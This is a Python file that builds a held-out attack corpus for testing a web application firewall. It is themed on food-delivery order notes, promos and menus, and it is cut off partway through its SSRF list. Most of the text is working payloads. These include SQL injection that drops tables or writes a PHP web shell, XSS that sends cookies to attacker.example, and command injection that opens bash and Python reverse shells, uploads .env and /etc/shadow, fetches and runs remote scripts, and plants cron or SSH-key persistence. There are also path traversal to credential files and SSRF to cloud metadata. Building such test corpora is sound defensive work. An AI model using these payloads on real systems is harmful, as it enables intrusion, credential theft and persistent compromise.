"""Held-out ATTACK corpus for the WAF: food-delivery and restaurant-ordering fields.

Each value is a working payload against a vulnerable version of a food-delivery
platform that puts the field where the class says:

  class = "<context>-<technique>[+<encoding>]"

  context   the field / sink: order_note (concatenated into SQL, printed via a
            shell `lp` line, logged), promo (looked up by SQL / Mongo, echoed in a
            header), address, courier_chat, review, ticket, menu_item, menu_csv,
            hours, pos (kitchen printer / KDS), search, menu_photo (file name
            opened from disk), receipt_template, invoice, logo_url / menu_import /
            webhook (URLs the server fetches), promo_template (server-side template
            for campaign copy), promo_rule (expression evaluated server-side),
            staff_login (LDAP / XPath / SQL auth), plain (no domain wrapping).
  technique what the payload does (union, time_blind, attr_breakout, ...).
  encoding  optional: urlenc, urlenc2, html_entities, unicode, hex, case,
            comments, overlong, alt_ip, base64 ...

Categories: sqli, xss, cmdi, traversal, ssrf, code (SSTI, expression languages,
deserialization, XXE, Log4Shell-style lookups, prototype pollution, CSV formula),
nosqli, crlf (log / header / mail / control-character injection), ldap-xpath.

Every payload was written by hand for this corpus from an understanding of how
the technique works (literals below), or derived by a small template from
hand-written pools / literals (encodings, domain wrappers). Nothing comes from a
public payload list. Attacker infrastructure is attacker.example,
*.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; secrets are fake.
Output: attacks.jsonl next to this file, byte-identical on every run.
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 6302
ID_PREFIX = "ha63"
MAX_LEN = 1800

TARGETS = {
    "sqli": 76,
    "xss": 75,
    "cmdi": 70,
    "traversal": 50,
    "ssrf": 55,
    "code": 80,
    "nosqli": 26,
    "crlf": 32,
    "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# SQL injection: value concatenated into a SQL string literal, a numeric
# position, an ORDER BY list or an INSERT ... VALUES (...) tuple.
# ---------------------------------------------------------------------------
SQLI = [
    ("plain-tautology", "' OR '1'='1' -- "),
    ("plain-union", "' UNION SELECT NULL, NULL, NULL-- "),
    ("plain-comment_truncation", "admin'-- "),
    ("plain-stacked_drop", "1; DROP TABLE orders--"),
    ("plain-time_blind", "1' AND SLEEP(5)#"),
    ("plain-tautology_dq", "\" OR \"\"=\""),
    ("plain-error_mssql", "' AND 1=CONVERT(int, @@version)--"),
    ("promo-tautology", "WELCOME10' OR '1'='1"),
    ("promo-tautology_limit", "FREEDEL-MAR24' OR 1=1 LIMIT 1-- -"),
    ("promo-union", "SPRING20' UNION SELECT code, 100, 'percent', '2099-12-31' FROM promo_codes WHERE '1'='1"),
    ("promo-boolean_blind", "WELCOME10' AND SUBSTRING((SELECT password_hash FROM users WHERE role='admin' LIMIT 1),1,1)='$' AND '1'='1"),
    ("promo-time_blind_if", "TACO-7731' AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>109, SLEEP(4), 0) AND 'a'='a"),
    ("promo-double_quote", "SUMMER-24\" OR \"1\"=\"1"),
    ("promo-escape_bypass", r"\' OR 1=1-- "),
    ("promo-union+case", "WELCOME10' uNiOn SeLeCt code, NULL FROM promo_codes WHERE 'a'='a"),
    ("search-union", "pad thai%' UNION ALL SELECT email, password_hash, NULL, NULL FROM users-- "),
    ("search-union_schema", "noodles%' UNION SELECT table_name, column_name, NULL FROM information_schema.columns WHERE table_schema=DATABASE()-- -"),
    ("search-union_sqlite_master", "ramen' UNION SELECT name, sql, NULL FROM sqlite_master WHERE type='table'--"),
    ("search-like_blind", "sushi%' AND (SELECT COUNT(*) FROM admins WHERE email LIKE 'a%')>0 AND '%'='"),
    ("search-heavy_query_sqlite", "ramen' AND (SELECT COUNT(*) FROM sqlite_master a, sqlite_master b, sqlite_master c, sqlite_master d, sqlite_master e)>0--"),
    ("search-union+hex", "tacos' UNION SELECT email, NULL FROM users WHERE role=0x61646d696e-- "),
    ("search-orderby_case", "price,(SELECT CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM users WHERE id=1)='$' THEN price ELSE name END)"),
    ("search-orderby_sleep", "rating DESC, SLEEP(5)"),
    ("order_note-union", "no onions' UNION SELECT card_last4, card_token, NULL FROM payment_methods-- "),
    ("order_note-stacked_pg_sleep", "ring bell twice'; SELECT pg_sleep(7);--"),
    ("order_note-stacked_waitfor", "gate code #4521*'; WAITFOR DELAY '0:0:8';--"),
    ("order_note-stacked_update", "extra napkins'); UPDATE orders SET total=0.01 WHERE id=77120;--"),
    ("order_note-error_extractvalue", "Extra sauce' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT api_key FROM restaurants LIMIT 1)))-- "),
    ("order_note-error_updatexml", "Leave at door' AND UPDATEXML(1, CONCAT(0x3a, (SELECT CONCAT(email, ':', password_hash) FROM users LIMIT 1)), 1)-- "),
    ("order_note-benchmark", "No cutlery' OR BENCHMARK(30000000, SHA1('delivery'))-- "),
    ("order_note-pg_concat_sleep", "Sin cebolla'||pg_sleep(6)||'"),
    ("order_note-pg_cast_error", "Bitte ohne Zwiebeln' AND 1=CAST((SELECT string_agg(email||':'||phone, ',') FROM couriers) AS int)--"),
    ("order_note-union+comments", "no onions'/**/UNION/**/SELECT/**/card_token,/**/NULL/**/FROM/**/payment_methods#"),
    ("ticket-numeric_tautology", "77120 OR 1=1"),
    ("ticket-numeric_union", "0 UNION SELECT id, email, phone, street_address FROM customers"),
    ("ticket-numeric_time", "99812 AND (SELECT 1 FROM (SELECT SLEEP(6))x)"),
    ("ticket-error_mssql_convert", "Order #A-48213' AND 1=CONVERT(int, (SELECT TOP 1 password FROM staff))--"),
    ("ticket-mssql_xp_cmdshell", "Refund for 55310'; EXEC master..xp_cmdshell 'ping -n 4 203.0.113.7';--"),
    ("ticket-mssql_oob_dirtree", r"Missing naan'; EXEC master..xp_dirtree '\\sqlx.attacker.example\share';--"),
    ("ticket-oracle_error_inaddr", "Order 3321' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--"),
    ("ticket-oracle_union", "Cold food' UNION SELECT username, NULL FROM all_users--"),
    ("ticket-oracle_time_pipe", "Late order' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x', 8)--"),
    ("ticket-pg_read_file", "55310' UNION SELECT pg_read_file('/etc/passwd'), NULL-- "),
    ("review-insert_subquery", "Loved it!', (SELECT password_hash FROM users WHERE role='admin' LIMIT 1))-- "),
    ("review-stacked_insert", "Great food!'); INSERT INTO staff (email, role) VALUES ('mallory@attacker.example', 'owner');--"),
    ("review-stacked_update", "5 stars, would order again'); UPDATE restaurants SET payout_iban='XX00 0000 ATTACKER 01' WHERE id=12;--"),
    ("review-into_outfile", "Best pho ever' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/review.php'-- "),
    ("review-load_file_oob", r"Tasty' UNION SELECT LOAD_FILE(CONCAT('\\\\', (SELECT password_hash FROM users LIMIT 1), '.q.attacker.example\\a')), NULL-- "),
    ("review-union+comments", "Yum' /*!50000UNION*/ /*!50000SELECT*/ email, password_hash FROM users-- -"),
    ("address-pg_concat_subquery", "14 Connell St'||(SELECT current_setting('is_superuser'))||'"),
    ("address-pg_copy_program", "Flat 3/2'; COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.9/p | sh';--"),
    ("address-double_query_error", "Hauptstraße 17' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT user()), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- "),
    ("address-pg_subselect_sleep", "Apt 5B' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("hours-stacked_drop", "Mon-Fri 11:00-22:00'); DROP TABLE opening_hours;--"),
    ("hours-time_blind", "Sat/Sun 12-23' AND (SELECT 4821 FROM (SELECT SLEEP(5))a)-- x"),
    ("pos-stacked_truncate", "2x Coke 330ml'; TRUNCATE TABLE payouts;--"),
    ("pos-numeric_subquery", "5521 AND 1=(SELECT COUNT(*) FROM staff WHERE pin LIKE '0%')"),
    ("menu_item-union", "Pad Thai (GF)' UNION SELECT NULL, username, password, NULL FROM admin_users-- "),
    ("menu_item-having_error", "Fish & Chips' HAVING 1=1--"),
    ("menu_item-group_by_error", "Burger' GROUP BY menu_items.id, menu_items.name HAVING 1=1--"),
    ("menu_csv-concat_subquery", "P-099,\"Bao' || (SELECT group_concat(email || ':' || password_hash) FROM users) || '\",5.00"),
    ("menu_csv-stacked_delete", "Z-99,Union Special,15.00'); DELETE FROM menu_items WHERE restaurant_id<>12;--"),
    ("courier_chat-boolean_blind", "ok coming down' AND (SELECT SUBSTR(token,1,1) FROM courier_sessions WHERE courier_id=4471)='a' AND 'x'='x"),
    ("courier_chat-orderby_enum", "I'm outside' ORDER BY 6-- "),
    ("staff_login-comment_truncation", "owner@spiceroute.example'-- "),
    ("staff_login-tautology_role", "' OR role='owner' LIMIT 1-- "),
    ("staff_login-union_fake_row", "' UNION SELECT 1, 'owner@spiceroute.example', '$2b$12$FAKEFAKEFAKEFAKEFAKEFO', 'owner'-- "),
]

SQL_PREFIXES = [
    ("order_note", "Mild please"), ("order_note", "no sesame (allergy)"),
    ("address", "Rua Augusta 1200"), ("address", "Kerkstraat 12-III"),
    ("menu_item", "Pho Tai large"), ("promo", "EARLYBIRD"), ("review", "Tasty but late"),
]
SQL_TAILS = [
    ("time_blind", "' AND SLEEP(6)-- -"),
    ("tautology", "' OR 'x'='x"),
    ("union", "' UNION SELECT NULL, api_key FROM restaurants-- "),
    ("stacked_pg_sleep", "'; SELECT pg_sleep(5)--"),
    ("boolean_blind", "' AND (SELECT COUNT(*) FROM staff WHERE role='owner')>0-- "),
    ("error_extractvalue", "' AND EXTRACTVALUE(0, CONCAT(0x5c, USER()))-- "),
]

# ---------------------------------------------------------------------------
# XSS: value rendered into restaurant pages, courier app, KDS or admin
# dashboards without escaping (HTML body, attribute, JS string, URL, markdown).
# ---------------------------------------------------------------------------
XSS = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg_onload", "<svg onload=alert(1)>"),
    ("plain-attr_breakout", "\"><script>alert(1)</script>"),
    ("plain-js_uri", "javascript:alert(document.cookie)"),
    ("plain-sq_attr_breakout", "'><img src=x onerror=prompt(1)>"),
    ("plain-iframe_js_uri", "<iframe src=javascript:alert(1)>"),
    ("menu_item-img_onerror", "Pad Thai (GF) – 🌶🌶<img src=x onerror=alert(document.domain)>"),
    ("review-svg_fetch_cookie", "Best ramen in town!! <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("courier_chat-script_exfil", "I'm outside <script>new Image().src='https://attacker.example/k?c='+encodeURIComponent(document.cookie)</script>"),
    ("address-attr_breakout_dq", "12 Union St\" onmouseover=\"alert(document.cookie)\" data-x=\""),
    ("address-attr_breakout_sq", "Flat 3/2' autofocus onfocus='alert(1)' x='"),
    ("menu_item-js_string_breakout", "Fish & Chips';alert(String.fromCharCode(88,83,83));//"),
    ("menu_item-js_string_dq_exfil", "Mac n Cheese\";fetch('https://attacker.example/?t='+localStorage.getItem('token'));//"),
    ("order_note-script_close", "no onions</script><script>alert(origin)</script>"),
    ("review-details_ontoggle", "<details open ontoggle=alert(1)><summary>Allergens</summary>nuts</details>"),
    ("menu_item-iframe_srcdoc", "Chef's special <iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("promo-input_autofocus", "FLASH50 <input autofocus onfocus=alert(1)>"),
    ("promo-anchor_js_uri", "<a href=\"javascript:alert(document.cookie)\">Claim your free dessert 🍰</a>"),
    ("review-textarea_breakout", "</textarea><img src=x onerror=alert(1)>Food was great"),
    ("ticket-title_breakout", "Refund not received</title><script>alert(1)</script>"),
    ("courier_chat-svg_animate_onbegin", "on my way <svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("menu_item-svg_animate_href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Tap to see the full menu</text></a></svg>"),
    ("review-css_animation_event", "<style>@keyframes spin{}</style><p style=\"animation-name:spin\" onanimationstart=\"alert(1)\">Spicy!</p>"),
    ("menu_item-video_source_onerror", "Watch us make it: <video><source onerror=alert(1)></video>"),
    ("menu_item-audio_onerror", "Sizzle sound 🔊 <audio src onerror=alert(1)>"),
    ("promo-object_js_uri", "<object data=\"javascript:alert(1)\"></object>"),
    ("promo-meta_refresh_redirect", "Spring Menu Drop <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("review-base_href_hijack", "<base href=\"https://attacker.example/\">Loved the naan"),
    ("ticket-form_phishing", "<form action=https://attacker.example/pay method=post>\n<p>Session expired. Re-enter your card to receive the refund.</p>\n<input name=card><input name=cvv><button>Confirm</button></form>"),
    ("courier_chat-dangling_markup", "where are you? <img src='https://attacker.example/leak?html="),
    ("review-css_attribute_exfil", "<style>input[name=csrf_token][value^=a]{background:url(https://attacker.example/x?p=a)}</style>"),
    ("menu_item-atob_eval+base64", "<img src=x onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">"),
    ("review-img_onerror+unicode", r"<img src=x onerror=\u0061lert(1)>"),
    ("promo-svg_slash_template_call", "<svg/onload=alert`1`>"),
    ("order_note-bracket_concat", "extra sauce <img src=x onerror=top['al'+'ert'](document.domain)>"),
    ("order_note-bracket_escape+hex", r"<img src=x onerror=window['\x61lert'](1)>"),
    ("menu_item-svg_script+html_entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("address-anchor_js_uri+html_entities", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">Open in maps</a>"),
    ("review-markdown_js_link", "[Track my order](javascript:alert(document.cookie))"),
    ("review-markdown_img_attr_breakout", "![photo of my pizza](https://cdn.example.com/p.jpg\"onerror=\"alert(1))"),
    ("promo-angular_csti", "Hi {{constructor.constructor('alert(document.domain)')()}}"),
    ("review-noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("courier_chat-custom_tag_focusin", "<xss id=x tabindex=1 onfocusin=alert(1) autofocus>here</xss>"),
    ("menu_item-marquee_onstart", "<marquee onstart=alert(1)>Today's special: Pho Tai</marquee>"),
    ("review-body_onload", "<body onload=alert(document.cookie)>"),
    ("promo-js_uri+case", "JaVaScRiPt:alert(1)"),
    ("promo-js_uri_tab+whitespace", "java\tscript:alert(document.domain)"),
    ("promo-js_uri_colon+html_entities", "javascript&colon;alert(1)"),
    ("ticket-dom_clobbering", "<form id=appConfig><input name=apiBase value=https://attacker.example/api></form>"),
    ("menu_item-script_src", "Vegan menu ➜ <script src=//attacker.example/m.js></script>"),
    ("menu_item-dynamic_import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("review-pointer_overlay", "<div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0;z-index:9999\">Great food!</div>"),
    ("promo-popover_beforetoggle", "<button popovertarget=deal>See deal</button><div popover id=deal onbeforetoggle=alert(1)>20% off</div>"),
    ("review-onclick_beacon", "<a href=# onclick=\"fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/s',t))\">Rate your courier ⭐</a>"),
    ("hours-attr_breakout", "Mon–Fri 11:30-22:00\" onclick=\"alert(1)"),
    ("hours-js_template_literal", "Sat/Sun 12-23 ${alert(document.domain)}"),
    ("pos-kds_script", "<< RUSH >><script>alert(1)</script>"),
    ("menu_csv-img_in_field", "P-013,\"Pizza <img src=x onerror=alert(1)>\",12.00,\"gluten\",Pizza"),
    ("courier_chat-emoji_script", "👋<script>fetch('//attacker.example/?'+document.cookie)</script>"),
    ("promo-iframe_data_uri", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
    ("courier_chat-throw_onerror", "<img src=x onerror=\"window.onerror=alert;throw document.domain\">"),
    ("review-settimeout_string", "<img src=x onerror=setTimeout('ale'+'rt(1)')>"),
    ("address-eval_location_hash", "<img src=x onerror=eval(location.hash.slice(1))>"),
    ("menu_item-function_constructor", "<svg onload=[].constructor.constructor('alert(1)')()>"),
]

XSS_PREFIXES = [
    ("order_note", "Ring flat 3B "), ("review", "4/5 would order again "),
    ("courier_chat", "5 mins away "), ("menu_item", "Bibimbap 비빔밥 "),
    ("ticket", "Order #A-11935 missing items "), ("address", "Via Garibaldi 8/C "),
]
XSS_VECTORS = [
    ("img_onerror_cookie", "<img src=1 onerror=alert(document.cookie)>"),
    ("svg_onload_origin", "<svg onload=alert(origin)>"),
    ("script_src", "<script src=https://attacker.example/k.js></script>"),
    ("details_ontoggle", "<details ontoggle=alert(1) open>"),
]

# ---------------------------------------------------------------------------
# Command injection: value placed in a shell line (kitchen printer `lp`,
# image converter, import script, ping for POS webhook health checks, ...).
# ---------------------------------------------------------------------------
CMDI = [
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& uname -a"),
    ("plain-time_sleep", "; sleep 10"),
    ("plain-or_ping", "|| ping -c 10 127.0.0.1"),
    ("pos-dq_breakout_semicolon", "2x MARG 12\"; cat /etc/passwd #"),
    ("pos-dq_breakout", "** ALLERGY: PEANUT **\"; id; echo \""),
    ("pos-subshell_download", "<< RUSH >> $(curl -s http://203.0.113.9/x.sh | sh)"),
    ("pos-backtick_download", "Ticket #0087 `wget -qO- http://attacker.example/i | bash`"),
    ("pos-newline", "TBL 12 / COV 4\nid"),
    ("pos-newline_exfil", "VOID 1x Coke\ncurl -d @/etc/shadow https://attacker.example/u"),
    ("pos-awk_system", "VOID 1x Coke; awk 'BEGIN{system(\"id\")}'"),
    ("pos-find_exec", "SUBTOTAL; find / -name '*.env' -exec cat {} +"),
    ("pos-xargs", "=== REPRINT ===; echo /etc/passwd | xargs cat"),
    ("order_note-and", "no onions && id"),
    ("order_note-pipe_netcat", "ring bell twice | nc 203.0.113.5 4444 -e /bin/sh"),
    ("order_note-sq_breakout_sleep", "Leave at door'; sleep 7; echo '"),
    ("order_note-or_ping_time", "Extra napkins || ping -c 8 127.0.0.1"),
    ("order_note-ifs", "no sesame;cat${IFS}/etc/passwd"),
    ("order_note-brace_expansion", "Birthday order;{cat,/etc/hosts}"),
    ("order_note-quote_obfuscation", "Extra pickles; c'a't /e\"t\"c/pa's'swd"),
    ("order_note-backslash_obfuscation", r"no cutlery; w\ho\am\i"),
    ("order_note-glob", "gate code #4521; /???/c?t /e??/p?ss??"),
    ("order_note-printf+hex", r"call on arrival; $(printf '\x69\x64')"),
    ("order_note-echo_decode+base64", "no cilantro; echo aWQ7IHVuYW1lIC1h | base64 -d | sh"),
    ("order_note-env_substring", "no onions; cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("order_note-tr_case", "gate 4521; $(echo ID | tr A-Z a-z)"),
    ("order_note-rev_herestring", "mild please; $(rev<<<'di')"),
    ("address-redirect_webroot", "12 Union St; id > /var/www/html/static/o.txt"),
    ("address-bash_reverse_shell", "Flat 2/1; bash -c 'bash -i >& /dev/tcp/203.0.113.10/9001 0>&1'"),
    ("address-python_reverse_shell", "Hauptstraße 17; python3 -c 'import socket,os,pty;s=socket.create_connection((\"198.51.100.20\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("address-dns_exfil", "Apt 5B $(nslookup $(whoami).cmd.attacker.example)"),
    ("address-curl_upload", "Calle de Alcalá 45; curl -F f=@/app/.env https://attacker.example/up"),
    ("promo-windows_amp", "WELCOME10 & ipconfig /all"),
    ("promo-windows_type", r"FREEDEL | type C:\Windows\win.ini"),
    ("promo-powershell_download", "SUMMER24 & powershell -nop -w hidden -c \"iwr http://203.0.113.4/a.ps1 -UseBasicParsing | iex\""),
    ("promo-windows_caret", "BOGO & w^h^o^a^m^i"),
    ("promo-windows_timeout", "FLASH50 & timeout /t 9"),
    ("promo-certutil_download", r"EARLYBIRD & certutil -urlcache -split -f http://198.51.100.7/p.exe %TEMP%\p.exe & %TEMP%\p.exe"),
    ("promo-windows_copy_unc", r"XMAS & copy C:\inetpub\wwwroot\web.config \\198.51.100.3\drop\ "),
    ("menu_photo-filename_semicolon", "pad-thai.jpg; rm -rf /var/www/uploads/*"),
    ("menu_photo-filename_subshell", "$(touch /tmp/pwned).png"),
    ("menu_photo-filename_backtick", "burger`sleep 9`.jpg"),
    ("menu_csv-argument_injection_tar", "--checkpoint=1 --checkpoint-action=exec=sh import.sh"),
    ("menu_import-argument_injection_curl", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("menu_import-argument_injection_ssh", "-oProxyCommand=sh -c 'id>/tmp/x' x"),
    ("webhook-host_semicolon", "pos.spiceroute.example; cat /etc/passwd"),
    ("webhook-host_newline", "10.0.0.5\nid"),
    ("webhook-host_subshell_dns", "$(whoami).pos.attacker.example"),
    ("webhook-windows_nslookup", "pos.example & nslookup %USERNAME%.w.attacker.example"),
    ("courier_chat-background_sleep", "5 mins away & sleep 15 &"),
    ("courier_chat-crontab_persist", "ok coming down; (crontab -l; echo '* * * * * curl -s http://203.0.113.9/b | sh') | crontab -"),
    ("courier_chat-ssh_key_persist", "np! ; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE x@attacker' >> ~/.ssh/authorized_keys"),
    ("ticket-mail_exfil", "Order 55310 | mail -s env attacker@attacker.example < /proc/self/environ"),
    ("ticket-chmod_suid", "Refund please && chmod u+s /bin/bash"),
    ("ticket-perl_system", "missing naan; perl -e 'system(\"id\")'"),
    ("ticket-download_exec", "cold food; wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k; /tmp/k"),
    ("review-dq_subshell", "Best pho ever \"$(id)\""),
    ("review-env_exfil", "5/5 $(env | curl -X POST --data-binary @- https://attacker.example/e)"),
    ("hours-semicolon", "Mon–Fri 11:30-22:00; Sat/Sun 12-23; id"),
    ("hours-and", "Mo-Fr 11:00-22:00 && cat /etc/shadow"),
    ("menu_item-nohup_background", "Fish & Chips; nohup sh -c 'sleep 1; id > /tmp/o' &"),
    ("menu_item-newline+urlenc", "Pad Thai (GF)%0aid"),
]

CMD_PREFIXES = [
    ("order_note", "no onions"), ("pos", ">> NO ONION"), ("address", "Søndergade 5"),
    ("menu_photo", "nasi-lemak.png"), ("hours", "Tue–Sun 17:00–late"),
]
CMD_SEPS = [("semicolon", "; "), ("pipe", " | "), ("and", " && "), ("subshell", " $(", ), ("backtick", " `")]
CMD_COMMANDS = [
    "cat /etc/passwd", "id", "uname -a", "sleep 8", "curl -s http://203.0.113.9/c | sh",
    "nslookup x.cmd.attacker.example",
]

# ---------------------------------------------------------------------------
# Path traversal / local file inclusion: value used as a file name under an
# uploads, templates, locales or export directory.
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot_windows", r"..\..\..\..\windows\win.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("plain-proc_environ", "../../../../../../proc/self/environ"),
    ("plain-strip_bypass", "....//....//....//etc/passwd"),
    ("menu_photo-relative_prefix", "menu_photos/../../../../etc/shadow"),
    ("menu_photo-null_byte+urlenc", "../../../../etc/passwd%00.jpg"),
    ("menu_photo-through_file", "pad-thai.jpg/../../../../../etc/group"),
    ("menu_photo-strip_bypass_nested", "..././..././..././etc/hosts"),
    ("menu_photo-mixed_separators", r"..\../..\../..\../etc/passwd"),
    ("menu_photo-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("menu_photo-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("menu_photo-dot_pair+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("menu_photo-backslash+urlenc", "..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("menu_photo-iis_u_encoding+unicode", "..%u002f..%u002f..%u002fwindows%u002fwin.ini"),
    ("receipt_template-relative", "templates/receipt/../../../../../../etc/passwd"),
    ("receipt_template-app_settings", "../../config/settings.py"),
    ("receipt_template-dotenv", "../../../.env"),
    ("receipt_template-git_config", "../../.git/config"),
    ("receipt_template-ssh_key", "../../../../root/.ssh/id_rsa"),
    ("receipt_template-aws_credentials", "../../../../home/app/.aws/credentials"),
    ("receipt_template-proc_cwd", "/proc/self/cwd/config/secrets.yml"),
    ("receipt_template-mysql_conf", "../../../../etc/mysql/my.cnf"),
    ("receipt_template-nginx_conf", "../../../../etc/nginx/nginx.conf"),
    ("invoice-absolute_with_dotdot", "/var/www/app/../../../etc/passwd"),
    ("invoice-proc_cmdline", "invoice_00042.pdf/../../../../proc/self/cmdline"),
    ("invoice-proc_fd", "../../../../proc/self/fd/3"),
    ("invoice-access_log", "../../../../var/log/nginx/access.log"),
    ("invoice-windows_absolute", r"C:\inetpub\wwwroot\web.config"),
    ("invoice-windows_sam", r"..\..\..\..\Windows\System32\config\SAM"),
    ("invoice-bash_history", "../../../../root/.bash_history"),
    ("locale-dotdot_lang", "en/../../../../../../etc/passwd"),
    ("locale-php_filter", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("menu_csv-zip_slip", "../../../../var/www/html/static/shell.php"),
    ("menu_csv-zip_slip_windows", r"..\..\..\inetpub\wwwroot\cmd.aspx"),
    ("menu_csv-import_absolute", "/home/app/.bash_history"),
    ("export-tomcat_path_param", "..;/..;/WEB-INF/web.xml"),
    ("export-java_properties", "../../../../WEB-INF/classes/application.properties"),
    ("export-full+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("export-slash+urlenc", "..%2f..%2f..%2froot%2f.ssh%2fauthorized_keys"),
    ("pos_template-proc_environ", "kitchen/../../../proc/self/environ"),
    ("pos_template-k8s_token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("pos_template-hostname", "../../../../etc/hostname"),
    ("review_photo-dot_padding", "./././../../../../etc/passwd"),
]

TRAV_CONTEXTS = ["menu_photo", "receipt_template", "invoice", "locale", "export"]
TRAV_TARGETS = [
    "etc/passwd", "etc/shadow", "proc/self/environ", "app/.env", "etc/hosts",
    "root/.ssh/id_ed25519", "var/lib/postgresql/.pgpass",
]
TRAV_TARGETS_WIN = [
    "windows\\win.ini", "inetpub\\wwwroot\\web.config", "windows\\system32\\drivers\\etc\\hosts",
    "ProgramData\\DeliveryPOS\\config.ini",
]

# ---------------------------------------------------------------------------
# SSRF: value is a URL the server fetches (restaurant logo, menu import,
# POS webhook, review link preview).
# ---------------------------------------------------------------------------
SSRF = [
    ("plain-cloud_metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost_admin", "http://localhost:8080/admin"),
    ("plain-file_scheme", "file:///etc/passwd"),
    ("plain-ipv6_loopback", "http://[::1]/"),
    ("logo_url-aws_credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("logo_url-gcp_token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("logo_url-azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("logo_url-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("logo_url-ipv4_mapped+alt_ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("logo_url-decimal+alt_ip", "http://2852039166/latest/meta-data/"),
    ("logo_url-hex+alt_ip", "http://0xa9fea9fe/latest/user-data"),
    ("logo_url-octal+alt_ip", "http://0251.0376.0251.0376/latest/meta-data/hostname"),
    ("logo_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("menu_import-localhost_api", "http://localhost:5000/api/admin/refunds/approve-all"),
    ("menu_import-short_ip+alt_ip", "http://127.1:8080/internal/payouts?restaurant=12"),
    ("menu_import-zero_host", "http://0:6379/"),
    ("menu_import-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("menu_import-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("menu_import-docker_api", "http://172.17.0.1:2375/containers/json"),
    ("menu_import-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("menu_import-consul", "http://127.0.0.1:8500/v1/agent/self"),
    ("menu_import-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("menu_import-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("menu_import-envoy_admin", "http://127.0.0.1:15000/config_dump"),
    ("menu_import-jar_scheme", "jar:http://attacker.example/x.zip!/menu.csv"),
    ("menu_import-file_localhost", "file://localhost/etc/shadow"),
    ("menu_import-netdoc_scheme", "netdoc:///etc/passwd"),
    ("webhook-private_range", "http://10.0.0.1/"),
    ("webhook-router_admin", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-ipv4_mapped_long+alt_ip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("webhook-any_address", "http://0.0.0.0:8000/debug/vars"),
    ("webhook-userinfo_confusion", "https://pos.example.com@127.0.0.1/admin"),
    ("webhook-userinfo_metadata", "https://attacker.example@169.254.169.254/latest/meta-data/"),
    ("webhook-fragment_confusion", "http://127.0.0.1:8080#@pos.example.com/webhook"),
    ("webhook-backslash_confusion", r"http://pos.example.com\@127.0.0.1/"),
    ("webhook-dns_to_loopback", "http://127.0.0.1.attacker.example/hooks"),
